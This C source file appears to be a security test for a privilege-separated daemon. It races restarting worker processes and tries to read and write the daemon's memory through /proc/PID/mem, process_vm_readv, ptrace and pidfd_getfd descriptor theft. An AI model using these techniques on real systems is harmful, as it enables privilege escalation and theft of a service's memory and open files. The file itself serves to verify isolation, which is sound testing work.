/*
 * Finding 1. A worker's user looks for a process of its own that still has the daemon's memory. It has its workers fail at
 * their start, so that their back-off ends at one time and the daemon starts them all at once, and stops each the moment that
 * it may be signalled. Then it lets one after the other go on, and tries every way into another process's memory on those
 * that are left: what the daemon does when one has executed its program may open the others.
 * memory-of-the-daemon DAEMON-PID DAEMON-PROGRAM CRASH-FILE SECONDS
 */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/uio.h>

#define MOST 64

static const char *program;
static int closed, held, stopped[MOST];

/* Nobody is left stopped, whatever came of it. */
static void let_go(void)
{
    for (int i = 0; i < held; i++)
        kill(stopped[i], SIGKILL);
}

/* Where the daemon's program is mapped in that process; 0: it is not, or /proc does not say. */
static unsigned long program_in(int pid)
{
    char path[64], line[1024];
    unsigned long found = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    if (!maps)
        return 0;
    while (!found && fgets(line, sizeof line, maps)) {
        line[strcspn(line, "\n")] = 0;
        size_t length = strlen(line), end = strlen(program);
        if (length > end && strcmp(line + length - end, program) == 0 && strstr(line, " rw"))
            found = strtoul(line, NULL, 16);
    }
    fclose(maps);
    return found;
}

static void look_into(int pid)
{
    char path[64], target[PATH_MAX];
    unsigned char byte;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    long n = readlink(path, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    closed += n < 0 && errno == EACCES;
    unsigned long at = program_in(pid);
    if (at) {
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int memory = open(path, O_RDWR | O_CLOEXEC);
        if (memory >= 0 && pread(memory, &byte, 1, at) == 1 && pwrite(memory, &byte, 1, at) == 1)
            let_go(), succeeded("process %d of uid %d has the daemon's memory, read and written at %lx through %s", pid, getuid(), at, path);
        struct iovec here = { &byte, 1 }, there = { (void *)at, 1 };
        if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1)
            let_go(), succeeded("process %d of uid %d has the daemon's memory, read at %lx by process_vm_readv", pid, getuid(), at);
        let_go(), succeeded("process %d of uid %d has the daemon's memory: /proc/%d/maps says so", pid, getuid(), pid);
    }
    if (strcmp(target, program) != 0)
        return;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
        let_go(), succeeded("process %d of uid %d, which executes %s, lets itself be traced", pid, getuid(), program);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int i = 3; i < 256; i++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
        if (fd >= 0)
            let_go(), succeeded("descriptor %d of process %d, which executes %s, was taken by pidfd_getfd", i, pid, program);
    }
    close(pidfd);
}

/* Stops the processes of this user with ids from there on, until none has come for a while. */
static void stop_all(int from)
{
    held = 0;
    for (long long end = now_ms() + 100; now_ms() < end && held < MOST;)
        for (int pid = from; pid < from + 40 && held < MOST; pid++) {
            int known = pid == getpid();
            for (int i = 0; i < held; i++)
                known |= stopped[i] == pid;
            if (!known && kill(pid, SIGSTOP) == 0) {
                stopped[held++] = pid;
                end = now_ms() + 3;
            }
        }
}

static int by_number(const void *a, const void *b)
{
    return *(const int *)a - *(const int *)b;
}

int main(int argc, char **argv)
{
    if (argc != 5)
        errno = EINVAL, broken("memory-of-the-daemon DAEMON-PID DAEMON-PROGRAM CRASH-FILE SECONDS");
    int daemon = atoi(argv[1]), workers[MOST], bursts = 0, caught = 0;
    program = argv[2];
    close(open(argv[3], O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
    for (int i = children_of(daemon, workers, MOST); i-- > 0;)
        kill(workers[i], SIGKILL);
    long long end = now_ms() + atof(argv[4]) * 1000, last = end + MOST_MS_TO_STOP;
    for (; now_ms() < end || (caught < ENOUGH_STOPPED && now_ms() < last); bursts++) {
        stop_all(last_pid() + 1);
        caught += held;
        /* The daemon waits for them in the order of their start. */
        qsort(stopped, held, sizeof stopped[0], by_number);
        for (int first = 0; first < held; first++) {
            /* Some are killed, which also ends their part of what is shared. */
            for (int round = 0; round < 4; round++)
                for (int i = first; i < held; i++)
                    look_into(stopped[i]);
            kill(stopped[first], bursts % 3 == 2 ? SIGKILL : SIGCONT);
            for (long long look = now_ms() + 2; first + 1 < held && now_ms() < look;)
                look_into(stopped[first + 1]);
        }
    }
    unlink(argv[3]);
    if (caught < ENOUGH_STOPPED)
        errno = 0, broken("only %d successors were stopped in %d bursts", caught, bursts);
    failed("%d successors stopped in %d bursts, %d times one that may not be looked into, none has the daemon's memory", caught, bursts, closed);
}
